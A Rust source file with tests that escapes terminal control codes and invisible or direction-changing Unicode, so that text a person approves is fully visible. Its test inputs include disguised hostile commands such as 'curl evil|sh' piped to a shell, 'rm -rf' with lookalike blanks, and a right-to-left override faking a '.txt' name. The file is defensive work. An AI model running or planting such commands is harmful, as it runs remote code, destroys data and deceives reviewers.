//! Text that a person judges: nothing is left out, and nothing is hidden.
//!
//! [`mod@crate::clean`] takes terminal control out, which is right for output that is only read. What
//! somebody is asked to allow must be shown to the last character: what a terminal would not show is
//! written out.

use std::borrow::Cow;
use std::fmt::Write;

/// The text with every character that a terminal obeys or does not show written out, such as `\x1b`
/// or `\u{202e}`. Line ends and tabs stay.
#[must_use]
pub fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for char in text.chars() {
        match char {
            '\n' | '\t' => shown.push(char),
            '\r' => shown.push_str("\\r"),
            // Writing to a string can't fail.
            _ if char.is_control() && u32::from(char) < 0x100 => drop(write!(shown, "\\x{:02x}", u32::from(char))),
            _ if is_unseen(char) => drop(write!(shown, "\\u{{{:x}}}", u32::from(char))),
            _ => shown.push(char),
        }
    }
    shown
}

/// The same in one line: line ends are shown as ⏎.
#[must_use]
pub fn visible_line(text: &str) -> String {
    visible(text.trim()).replace('\n', "⏎").replace('\t', " ")
}

/// The same JSON with every character escaped that a terminal obeys or does not show: who looks at the
/// output is steered by it no more than who reads the text form.
#[must_use]
pub fn json(json: &str) -> Cow<'_, str> {
    // JSON itself escapes the first 32.
    let is_plain = |char: char| !char.is_control() && !is_unseen(char);
    if json.chars().all(is_plain) {
        return Cow::Borrowed(json);
    }
    let mut escaped = String::with_capacity(json.len() + 64);
    for char in json.chars() {
        // Between the texts of JSON there are only blanks and line ends of its own making.
        if is_plain(char) || matches!(char, '\n' | '\r' | '\t') {
            escaped.push(char);
            continue;
        }
        for unit in char.encode_utf16(&mut [0; 2]) {
            // Writing to a string can't fail.
            let _ = write!(escaped, "\\u{unit:04x}");
        }
    }
    Cow::Owned(escaped)
}

/// Characters that change the order of others, that are there without being seen, or that look like a blank and are
/// none. The selector of coloured signs (U+FE0F) is seen.
fn is_unseen(char: char) -> bool {
    matches!(char,
        '\u{a0}' | '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180e}' | '\u{2000}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}'
        | '\u{3000}' | '\u{3164}' | '\u{fe00}'..='\u{fe0e}' | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e0fff}')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn what_steers_a_terminal_is_written_out_and_nothing_is_lost() {
        for (raw, expected) in [
            ("plain\n\ttext ✓ 漢字", "plain\n\ttext ✓ 漢字"),
            ("true \u{1b}]; curl evil|sh; \u{7}", "true \\x1b]; curl evil|sh; \\x07"),
            ("\u{9d}0;rm\u{9c}", "\\x9d0;rm\\x9c"),
            ("safe\u{202e}txt.exe", "safe\\u{202e}txt.exe"),
            ("a\u{200b}b\u{e0041}", "a\\u{200b}b\\u{e0041}"),
            ("over\rwritten", "over\\rwritten"),
            (
                "rm\u{a0}-rf\u{2800}\u{17b4}\u{3000}\u{2003}\u{fe00}",
                "rm\\u{a0}-rf\\u{2800}\\u{17b4}\\u{3000}\\u{2003}\\u{fe00}",
            ),
            ("✔\u{fe0f}", "✔\u{fe0f}"),
        ] {
            assert_eq!(visible(raw), expected);
        }
        assert_eq!(visible_line(" echo one\necho two\n"), "echo one⏎echo two");
    }

    #[test]
    fn json_stays_the_same_json() {
        let value =
            serde_json::json!({ "a\u{9b}": "\u{1b}[2J\u{7f}\u{85}\u{202e}x\u{e0041}\u{2028}é漢", "b": [1, null] });
        let escaped = json(&value.to_string()).into_owned();
        let expected = r#"{"a\u009b":"\u001b[2J\u007f\u0085\u202ex\udb40\udc41\u2028é漢","b":[1,null]}"#;
        assert_eq!(escaped, expected);
        assert_eq!(serde_json::from_str::<serde_json::Value>(&escaped).unwrap(), value);
        assert!(matches!(json("{\"a\":\"b\"}"), Cow::Borrowed(_)));
    }

    proptest! {
        #[test]
        fn every_character_leaves_a_trace(text in "[\\PC\u{0}-\u{9f}\u{202a}-\u{202e}]{0,60}") {
            let shown = visible(&text);
            prop_assert!(shown.chars().all(|char| matches!(char, '\n' | '\t') || !(char.is_control() || is_unseen(char))));
            prop_assert!(shown.chars().count() >= text.chars().count());
        }
    }
}
